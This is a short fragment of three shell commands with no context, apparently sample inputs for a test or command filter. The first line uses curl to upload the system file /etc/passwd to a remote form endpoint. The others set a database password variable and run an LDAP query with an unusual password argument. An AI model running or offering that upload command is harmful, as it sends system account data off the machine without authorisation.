curl -F password=@/etc/passwd https://upload.internal/form
export PGPASSWORD=${DB_PASSWORD:+set}
ldapsearch -b ou=people password=foo/restricted-users
